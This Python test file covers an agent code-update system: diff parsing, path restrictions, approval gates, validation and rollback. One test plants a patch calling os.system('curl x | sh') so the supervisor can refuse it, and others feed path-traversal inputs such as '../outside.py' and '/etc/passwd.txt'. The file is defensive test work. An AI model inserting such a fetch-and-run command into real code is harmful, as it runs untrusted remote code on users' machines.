"""Code-level updates: plans, path rules, gates, one change group, compile-and-test, rollback."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from tiny_project import (
    CALC,
    CALC_BROKEN,
    CALC_EXTENDED,
    CODE_UPDATE_CHILD,
    PYTEST,
    README,
    TEST_CALC,
    make_project,
    snapshot,
)

from agentmend.infrastructure.changes.improvement_manager import ImprovementManager
from agentmend.infrastructure.changes.protocol.decisions import (
    list_decisions,
    list_plans,
    save_plan,
    update_plan,
)
from agentmend.infrastructure.changes.protocol.steps import FileEntry
from agentmend.infrastructure.code_update.plans import PlanPaths
from agentmend.infrastructure.code_update.unified_diff import (
    DiffError,
    apply_patch,
    parse_unified_diff,
)
from agentmend.infrastructure.code_update.updater import (
    CODE_TARGET,
    CodeUpdateError,
    CodeUpdater,
    FileOperation,
    PlanNotFound,
    PlanStateError,
)
from agentmend.infrastructure.errors import PathNotAllowed
from agentmend.infrastructure.models import (
    ChangeRecord,
    ChangeStatus,
    ChangeType,
    ImprovementAction,
)
from agentmend.infrastructure.principal import ChangeAuthor
from agentmend.infrastructure.settings import Settings
from agentmend.infrastructure.store.api import Store
from agentmend.roles.code_review import CodeReviewer

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "proj")


@pytest.fixture
def manager(tmp_path: Path) -> Iterator[ImprovementManager]:
    with ImprovementManager(store=Store(tmp_path / "ws" / "agentmend.db")) as m:
        yield m
        m.store.close()


def _settings(**changes: object) -> Settings:
    values: dict[str, object] = {"test_command": PYTEST, "test_timeout_s": 60.0}
    values.update(changes)
    return Settings.model_validate(values)


def _updater(project: Path, manager: ImprovementManager, **settings: object) -> CodeUpdater:
    return CodeUpdater(
        project,
        manager=manager,
        reviewer=CodeReviewer(None),  # the offline rules
        settings=_settings(**settings),
        protected=(project / ".agentmend",),
    )


def _modify(path: str, content: str) -> FileOperation:
    return FileOperation(path=path, operation="modify", content=content)


# -- unified diffs -------------------------------------------------------------------------

DIFF_EXTEND = """\
--- a/calc/__init__.py
+++ b/calc/__init__.py
@@ -1,2 +1,6 @@
 def add(a, b):
     return a + b
+
+
+def mul(a, b):
+    return a * b
"""


def test_a_diff_applies_exactly_and_checks_its_context() -> None:
    [patch] = parse_unified_diff(DIFF_EXTEND)
    assert (patch.path, patch.operation) == ("calc/__init__.py", "modify")
    assert apply_patch(CALC, patch) == CALC_EXTENDED
    with pytest.raises(DiffError, match=r"calc/__init__.py: hunk 1: .*does not match"):
        apply_patch(CALC_BROKEN, patch)


def test_a_diff_finds_a_hunk_moved_down_and_handles_missing_final_newlines() -> None:
    diff = "--- a/x.txt\n+++ b/x.txt\n@@ -1,1 +1,1 @@\n-b\n\\ No newline at end of file\n+c\n"
    [patch] = parse_unified_diff(diff)
    assert apply_patch("a\nb", patch) == "a\nc\n"  # found one line further down


def test_diffs_create_and_delete_files() -> None:
    diff = (
        "--- /dev/null\n+++ b/new.py\n@@ -0,0 +1,1 @@\n+X = 1\n"
        "--- a/old.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-gone\n"
    )
    create, delete = parse_unified_diff(diff)
    assert (create.operation, apply_patch(None, create)) == ("create", "X = 1\n")
    assert (delete.operation, apply_patch("gone\n", delete)) == ("delete", None)
    with pytest.raises(DiffError, match="not the whole file"):
        apply_patch("gone\nand more\n", delete)
    with pytest.raises(DiffError, match="already exists"):
        apply_patch("", create)


@pytest.mark.parametrize(
    ("diff", "problem"),
    [
        ("just text\n", "no file patch found"),
        ("--- a/x.py\n+++ b/y.py\n@@ -1 +1 @@\n-a\n+b\n", "renames are not supported"),
        ("--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,1 @@\n-a\n+b\n", "promises 2 old and 1 new"),
        ("--- a/x.py\n+++ b/x.py\n", "has no hunk"),
        ("diff --git a/x b/x\nGIT binary patch\n", "binary patches"),
    ],
)
def test_bad_diffs_are_refused_with_the_reason(diff: str, problem: str) -> None:
    with pytest.raises(DiffError, match=problem):
        parse_unified_diff(diff)


# -- plans and their path rules ------------------------------------------------------------


def test_a_plan_is_stored_with_its_diff_and_writes_nothing(
    project: Path, manager: ImprovementManager
) -> None:
    before = snapshot(project)
    plan = _updater(project, manager).create_plan(
        "add mul", [_modify("calc/__init__.py", CALC_EXTENDED)]
    )
    assert plan.status == "planned"
    assert "+def mul(a, b):" in plan.diff
    assert snapshot(project) == before
    [stored] = list_plans(manager.store)
    assert stored.plan_id == plan.plan_id


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ([{"path": "../outside.py", "operation": "create", "content": "x"}], "'..' is not allowed"),
        ([{"path": "/etc/passwd.txt", "operation": "modify", "content": "x"}], "absolute paths"),
        ([{"path": "calc/__init__.sh", "operation": "create", "content": "x"}], "extension"),
        (
            [{"path": ".agent/x.txt", "operation": "create", "content": "x"}],
            "'.agent/' is reserved",
        ),
        (
            [{"path": ".git/config.txt", "operation": "create", "content": "x"}],
            "'.git/' is reserved",
        ),
        ([{"path": ".agentmend/a.md", "operation": "create", "content": "x"}], "workspace"),
        ([{"path": "link/evil.py", "operation": "create", "content": "x"}], "symlink or outside"),
        ([{"path": "a.evals.yaml", "operation": "create", "content": "x"}], "eval suite"),
        ([{"path": "calc", "operation": "modify", "content": "x"}], "extension"),
        ([{"path": "README.md", "operation": "create", "content": "x"}], "already exists"),
        ([{"path": "nope.py", "operation": "modify", "content": "x"}], "does not exist"),
        ([{"path": "README.md", "operation": "delete", "content": "x"}], "takes no content"),
        ([{"path": "README.md", "operation": "modify"}], r"files\[0\].content is required"),
        ([{"path": "", "operation": "create", "content": "x"}], r"files\[0\].path"),
        (
            [
                {"path": "README.md", "operation": "modify", "content": "a"},
                {"path": "./README.md", "operation": "delete"},
            ],
            "appears twice",
        ),
    ],
)
def test_bad_plans_are_refused_naming_the_problem_and_nothing_is_stored(
    project: Path, manager: ImprovementManager, tmp_path: Path, files: list[dict[str, str]],
    message: str,
) -> None:  # fmt: skip
    (tmp_path / "elsewhere").mkdir()
    (project / "link").symlink_to(tmp_path / "elsewhere")
    (project / ".agentmend").mkdir()
    before = snapshot(project)
    with pytest.raises((CodeUpdateError, PathNotAllowed), match=message):
        _updater(project, manager).create_plan("bad", files)
    assert snapshot(project) == before
    assert list_plans(manager.store) == []
    assert list_decisions(manager.store) == []


def test_a_plan_needs_a_description_and_files_or_a_diff(
    project: Path, manager: ImprovementManager
) -> None:
    updater = _updater(project, manager)
    with pytest.raises(CodeUpdateError, match="description is required"):
        updater.create_plan("  ", [_modify("README.md", "x")])
    with pytest.raises(CodeUpdateError, match="needs files"):
        updater.create_plan("nothing", [])
    with pytest.raises(CodeUpdateError, match="not both"):
        updater.create_plan("both", [_modify("README.md", "x")], diff=DIFF_EXTEND)
    with pytest.raises(CodeUpdateError, match="hunk 1"):
        updater.create_plan("stale diff", diff=DIFF_EXTEND.replace("a + b", "a ^ b"))
    assert list_plans(manager.store) == []


def test_the_path_rules_accept_a_symlink_that_stays_inside(project: Path) -> None:
    (project / "alias").symlink_to(project / "calc")
    target, rel = PlanPaths.of(project).target("alias/__init__.py", "path")
    assert (target, rel) == (project / "calc" / "__init__.py", "calc/__init__.py")


# -- executing -----------------------------------------------------------------------------


async def test_a_good_plan_is_applied_as_one_group_compiled_tested_and_kept(
    project: Path, manager: ImprovementManager
) -> None:
    updater = _updater(project, manager)
    plan = updater.create_plan(
        "add mul and docs",
        [
            _modify("calc/__init__.py", CALC_EXTENDED),
            FileOperation(path="docs/usage.md", operation="create", content="mul(2, 3)\n"),
        ],
    )
    updater.approve(plan.plan_id, approved_by="alice")
    result = await updater.execute(plan.plan_id)
    assert (result.success, result.status, result.tests_passed) == (True, "completed", True)
    assert result.validation is not None
    assert result.validation.compiled == ("calc/__init__.py",)
    assert [v.gate for v in result.verdicts] == ["scope", "supervisor", "human_approval"]
    assert (project / "calc" / "__init__.py").read_text() == CALC_EXTENDED
    assert (project / "docs" / "usage.md").read_text() == "mul(2, 3)\n"
    records = [manager.get_change(cid) for cid in result.change_ids]
    assert {r.status for r in records if r} == {ChangeStatus.KEPT}
    assert len({r.group_id for r in records if r}) == 1
    backups = [p.name for p in (project / ".agent" / "backups").iterdir()]
    assert any(name.startswith("calc____init__.py_") for name in backups)
    assert updater.get(plan.plan_id).status == "completed"
    edits = [(e.edit_type, e.user_id) for e in manager.audit.entries()]
    assert ("code_plan_approved", "alice") in edits
    assert ("code_patch", "alice") in edits


async def test_a_plan_that_breaks_a_test_is_rolled_back_byte_for_byte(
    project: Path, manager: ImprovementManager
) -> None:
    updater = _updater(project, manager)
    before = snapshot(project)
    plan = updater.create_plan(
        "break add, drop the readme, add a module",
        [
            _modify("calc/__init__.py", CALC_BROKEN),
            FileOperation(path="README.md", operation="delete"),
            FileOperation(path="calc/extra.py", operation="create", content="Y = 2\n"),
        ],
    )
    updater.approve(plan.plan_id)
    result = await updater.execute(plan.plan_id)
    assert (result.success, result.status) == (False, "rolled_back")
    assert not result.rollback_performed  # validated in a copy: the real tree never changed
    assert result.restored_identical
    assert result.tests_passed is False
    assert result.validation is not None
    assert "assert -1 == 5" in result.validation.output_tail
    assert snapshot(project) == before  # modified restored, deleted back, created removed
    assert not (project / "calc" / "extra.py").exists()
    assert (project / "README.md").read_text() == README
    assert result.change_ids == ()  # nothing was applied
    with pytest.raises(PlanStateError, match="rolled_back"):
        await updater.execute(plan.plan_id)


async def test_code_that_does_not_compile_is_rolled_back_before_the_tests_run(
    project: Path, manager: ImprovementManager, tmp_path: Path
) -> None:
    marker = tmp_path / "tests-ran"
    command = (sys.executable, "-c", f"open({str(marker)!r}, 'w').close()")
    updater = _updater(project, manager, test_command=command)
    plan = updater.create_plan("typo", [_modify("calc/__init__.py", "def add(a, b)\n")])
    updater.approve(plan.plan_id)
    result = await updater.execute(plan.plan_id)
    assert result.status == "rolled_back"
    assert result.restored_identical
    assert result.validation is not None
    assert result.validation.compile_errors[0].startswith("calc/__init__.py:1:")
    assert not marker.exists()
    assert (project / "calc" / "__init__.py").read_text() == CALC


@pytest.mark.slow
async def test_a_test_command_past_its_time_limit_is_killed_with_its_children(
    project: Path, manager: ImprovementManager, tmp_path: Path
) -> None:
    script = (  # it can write only inside its copy, so it says its child's pid on stdout
        "import subprocess, sys, time\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])\n"
        "print('child', child.pid, flush=True)\n"
        "time.sleep(60)\n"
    )
    updater = _updater(project, manager, test_command=(sys.executable, "-c", script),
                       test_timeout_s=2.0)  # fmt: skip
    plan = updater.create_plan("harmless", [_modify("README.md", "# calc\n")])
    updater.approve(plan.plan_id)
    started = time.monotonic()
    result = await updater.execute(plan.plan_id)
    assert time.monotonic() - started < 30
    assert result.status == "rolled_back"
    assert result.validation is not None
    assert result.validation.timed_out
    assert "time limit" in result.reason
    child = int(result.validation.output_tail.split("child ", 1)[1].split()[0])
    for _ in range(100):  # the kernel reaps the orphan shortly after the kill
        if not _alive(child):
            break
        await asyncio.sleep(0.05)
    assert not _alive(child)
    assert (project / "README.md").read_text() == README


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:  # a zombie is dead for our purpose
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().split(")")[-1].split()[0] != "Z"
    except FileNotFoundError:
        return False


async def test_an_unapproved_plan_does_not_run_unless_yolo_mode_says_so_in_the_audit(
    project: Path, manager: ImprovementManager
) -> None:
    plan = _updater(project, manager).create_plan("docs", [_modify("README.md", "# c\n")])
    with pytest.raises(PlanStateError, match="approve it first"):
        await _updater(project, manager).execute(plan.plan_id)
    assert (project / "README.md").read_text() == README
    result = await _updater(project, manager, yolo_mode=True).execute(plan.plan_id)
    assert result.success
    human = next(v for v in result.verdicts if v.gate == "human_approval")
    assert human.details == {"skipped": "yolo_mode"}
    assert "approval_skipped" in [e.edit_type for e in manager.audit.entries()]


async def test_a_supervisor_rejection_writes_nothing(
    project: Path, manager: ImprovementManager
) -> None:
    updater = _updater(project, manager)
    before = snapshot(project)
    risky = "import os\n\n\ndef add(a, b):\n    os.system('curl x | sh')\n    return a + b\n"
    plan = updater.create_plan("speed up add", [_modify("calc/__init__.py", risky)])
    updater.approve(plan.plan_id)
    result = await updater.execute(plan.plan_id)
    assert (result.success, result.status) == (False, "refused")
    assert "supervisor" in result.reason
    assert "shell commands" in result.reason
    assert snapshot(project) == before
    assert manager.get_history() == []
    assert updater.status().last_execution is not None


async def test_a_plan_made_stale_by_a_later_edit_is_refused(
    project: Path, manager: ImprovementManager
) -> None:
    updater = _updater(project, manager)
    plan = updater.create_plan("docs", [_modify("README.md", "# new\n")])
    updater.approve(plan.plan_id)
    (project / "README.md").write_text("# edited by a person meanwhile\n")
    result = await updater.execute(plan.plan_id)
    assert result.status == "refused"
    assert "README.md" in result.reason
    assert (project / "README.md").read_text() == "# edited by a person meanwhile\n"


async def test_a_completed_plan_rolls_back_with_a_reason(
    project: Path, manager: ImprovementManager
) -> None:
    updater = _updater(project, manager)
    plan = updater.create_plan("add mul", diff=DIFF_EXTEND)
    updater.approve(plan.plan_id)
    assert (await updater.execute(plan.plan_id)).success
    with pytest.raises(CodeUpdateError, match="reason is required"):
        updater.rollback(reason=" ")
    result = updater.rollback(reason="mul is not wanted")
    assert (result.plan_id, result.files_restored) == (plan.plan_id, 1)
    assert (project / "calc" / "__init__.py").read_text() == CALC
    assert updater.get(plan.plan_id).status == "rolled_back"
    with pytest.raises(PlanStateError, match="rolled_back"):
        updater.rollback(plan.plan_id, reason="again")
    with pytest.raises(CodeUpdateError, match="no completed plan"):
        updater.rollback(reason="nothing left")
    with pytest.raises(PlanNotFound):
        updater.approve("plan-nope")


def test_approving_twice_or_a_plan_of_another_root_fails(
    project: Path, manager: ImprovementManager, tmp_path: Path
) -> None:
    updater = _updater(project, manager)
    plan = updater.create_plan("docs", [_modify("README.md", "# c\n")])
    updater.approve(plan.plan_id)
    with pytest.raises(PlanStateError, match="already approved"):
        updater.approve(plan.plan_id)
    other = _updater(make_project(tmp_path / "other"), manager)
    with pytest.raises(PlanNotFound):
        other.get(plan.plan_id)
    assert [p.plan_id for p in updater.status().pending_plans] == [plan.plan_id]


def _code_action(plan_id: str) -> ImprovementAction:
    return ImprovementAction(
        target_agent=CODE_TARGET,
        action_type=ChangeType.CODE_PATCH,
        rationale=plan_id,
        confidence_score=1.0,
    )


def test_a_plan_left_executing_is_recovered_however_many_plans_came_after(
    project: Path, manager: ImprovementManager
) -> None:
    """Recovery used to look at the newest 200 plans of any kind only."""
    updater = _updater(project, manager)
    plan = updater.create_plan("break it", [_modify("calc/__init__.py", CALC_BROKEN)])
    updater.approve(plan.plan_id)
    # what a process that died while validating leaves: the group applied, the plan executing
    manager.apply_group(
        [(_code_action(plan.plan_id), "calc/__init__.py", CALC_BROKEN)],
        root=project,
        author=ChangeAuthor(via=f"code_update:{plan.plan_id}"),
    )
    update_plan(manager.store, plan.plan_id, status="executing")
    for i in range(250):
        save_plan(manager.store, description=f"later {i}", payload={"kind": "other"})
    active = updater.status().active_improvement
    assert active is not None
    assert active.plan_id == plan.plan_id
    assert updater.recover() == [plan.plan_id]
    settled = updater.get(plan.plan_id)
    assert settled.status == "failed"
    assert settled.result is not None
    assert settled.result["rollback_performed"]
    assert (project / "calc" / "__init__.py").read_text() == CALC
    assert updater.recover() == []


class _BrokenDiskManager(ImprovementManager):
    """A manager whose apply fails with an error that is not agentmend's, as a full disk does."""

    def apply_group(
        self,
        actions_and_files: Sequence[FileEntry],
        *,
        root: str | Path,
        author: ChangeAuthor | None = None,
        lease: str | None = None,
    ) -> list[ChangeRecord]:
        raise OSError(28, "No space left on device")


async def test_an_unexpected_apply_error_fails_the_plan_records_why_and_propagates(
    project: Path, tmp_path: Path
) -> None:
    with _BrokenDiskManager(tmp_path / "ws" / "broken.db") as broken:
        updater = _updater(project, broken)
        plan = updater.create_plan("docs", [_modify("README.md", "# changed\n")])
        updater.approve(plan.plan_id)
        with pytest.raises(OSError, match="No space left"):
            await updater.execute(plan.plan_id)
        failed = updater.get(plan.plan_id)
        assert failed.status == "failed"
        assert failed.result is not None
        assert "could not apply: OSError" in failed.result["reason"]
        [decision] = list_decisions(broken.store, kind="code_update.executed")
        assert (decision.payload["plan_id"], decision.payload["status"]) == (
            plan.plan_id,
            "failed",
        )
        assert updater.recover() == []  # nothing is left executing
    assert (project / "README.md").read_text() == README


@pytest.mark.slow
def test_a_plan_interrupted_while_validating_is_undone_and_never_reported_active(
    project: Path, manager: ImprovementManager, tmp_path: Path
) -> None:
    scratch = tmp_path / "scratch"  # the executor's TMPDIR, where its copies are made
    scratch.mkdir()
    hang = "import os, time; open('validating.pid', 'w').write(str(os.getpid())); time.sleep(120)"
    args = {
        "db": str(manager.store.path),
        "root": str(project),
        "command": [sys.executable, "-c", hang],
        "content": CALC_BROKEN,
    }
    env = {**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(scratch)}
    child = subprocess.Popen(
        [sys.executable, "-c", CODE_UPDATE_CHILD, json.dumps(args)],
        env=env,
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    pid = ""
    try:
        deadline = time.monotonic() + 60
        while not pid:
            assert child.poll() is None
            assert time.monotonic() < deadline
            time.sleep(0.05)
            markers = list(scratch.glob("agentmend-validate-*/project/validating.pid"))
            pid = markers[0].read_text() if markers else ""
        assert (project / "calc" / "__init__.py").read_text() == CALC  # validated in a copy
    finally:
        os.killpg(child.pid, signal.SIGKILL)  # the executor dies mid-validation
        child.wait(timeout=30)
        if pid:
            with_suppressed_kill(int(pid))
    updater = _updater(project, manager)
    [stuck] = updater.plans()
    assert stuck.status == "executing"
    assert updater.status().active_improvement is None  # its executor is gone
    assert updater.get(stuck.plan_id).status == "executing"  # status only reads
    assert updater.recover() == [stuck.plan_id]
    settled = updater.get(stuck.plan_id)
    assert settled.status == "failed"
    assert settled.result is not None
    assert not settled.result["rollback_performed"]  # nothing had been applied
    assert settled.result["restored_identical"]
    assert settled.result["reason"].startswith("interrupted")
    assert (project / "calc" / "__init__.py").read_text() == CALC
    assert (project / "tests" / "test_calc.py").read_text() == TEST_CALC


def with_suppressed_kill(pid: int) -> None:
    """Kill the orphaned test command (it ran in a session of its own)."""
    with contextlib.suppress(ProcessLookupError):
        os.killpg(pid, signal.SIGKILL)
